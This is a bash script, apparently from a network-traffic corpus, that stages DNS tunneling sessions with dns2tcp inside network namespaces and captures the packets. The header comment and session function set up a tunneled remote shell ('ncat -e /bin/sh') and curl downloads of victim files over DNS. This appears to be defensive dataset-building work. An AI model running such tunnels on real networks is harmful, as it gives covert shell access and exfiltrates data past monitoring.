#!/usr/bin/env bash
# corpus/threats/dns2tcp.sh OUTDIR: class dns2tcp, TCP over DNS with dns2tcpc/dns2tcpd.
#
# Each session is one client run: dns2tcpd in the server namespace (its own domain,
# resources "shell" and "web" on the server's loopback, a pre-shared key or none), and
# dns2tcpc in the client namespace talking to it directly as its DNS server (one UDP
# socket, so one UDP flow to port 53 per run): sometimes first a run that only lists the
# resources (as an operator does), then a run forwarding a local port to "shell" (ncat
# -e /bin/sh; an operator runs 3-8 commands at an operator's pace) or to "web" (curl
# downloads 1-4 of the victim's files from a python http.server, with pauses).
# Options vary per session: request type (-T TXT or KEY), compression (-c), answer delay
# (-t). Capture filter: udp port 53.
set -u
here=$(dirname "$0")
. "$here/../lib/netns.sh"
. "$here/malicious.bash"


session() {
    local i=$1 dom key opts=() pids=() use sport wport lport conf
    sport=$((20000 + i)) wport=$((22000 + i)) lport=$((21000 + i))
    dom=$(pick t d x ns dl)$(rand 1 99).$(pick example.com example.org corp.local cdn-cache.net)
    conf=$MAL_WORK/dns2tcpd-$i.conf
    {
        echo "listen = $SRV_IP"
        echo "port = 53"
        echo "user = nobody"
        echo "domain = $dom"
        echo "resources = shell:127.0.0.1:$sport, web:127.0.0.1:$wport"
    } > "$conf"
    if [ $(rand 0 1) -eq 0 ]; then
        key=$(head -c 9 /dev/urandom | base64 | tr -d '/+')
        echo "key = $key" >> "$conf"
        opts+=(-k "$key")
    fi
    [ $(rand 0 1) -eq 0 ] && opts+=(-T "$(pick TXT KEY)")
    [ $(rand 0 2) -eq 0 ] && opts+=(-c)
    [ $(rand 0 3) -eq 0 ] && opts+=(-t "$(rand 1 5)")
    use=$(pick shell shell web)
    if [ "$use" = shell ]; then ns_start srv tunnel_target_shell 127.0.0.1 "$sport"; else ns_start srv tunnel_target_web 127.0.0.1 "$wport"; fi
    pids+=($!)
    ns_start srv dns2tcpd -F -f "$conf"
    pids+=($!)
    wait_port srv "$SRV_IP" 53 udp || { stop_all "${pids[@]}"; return 1; }
    if [ $(rand 0 2) -eq 0 ]; then     # which resources are there?
        MAL_TIMEOUT=30 ns_run cli dns2tcpc -z "$dom" "${opts[@]}" "$SRV_IP" > /dev/null 2>&1
        nap_ms 500 3000
    fi
    ns_start cli dns2tcpc -z "$dom" "${opts[@]}" -r "$use" -l "$lport" "$SRV_IP"
    pids+=($!)
    wait_port cli any "$lport" || { stop_all "${pids[@]}"; return 1; }
    if [ "$use" = shell ]; then
        mal_commands "$(rand 3 8)" | operator_lines | ns_run cli tunnel_use_shell 127.0.0.1 "$lport" > /dev/null 2>&1
    else
        tunnel_downloads "127.0.0.1:$lport" 40 4
    fi
    nap_ms 500 3000
    stop_all "${pids[@]}"
}

mal_init dns2tcp "${1:-}" 38
capture_start "$MAL_OUT/dns2tcp.pcap" "udp port 53"
run_sessions 14 session
capture_stop
mal_done
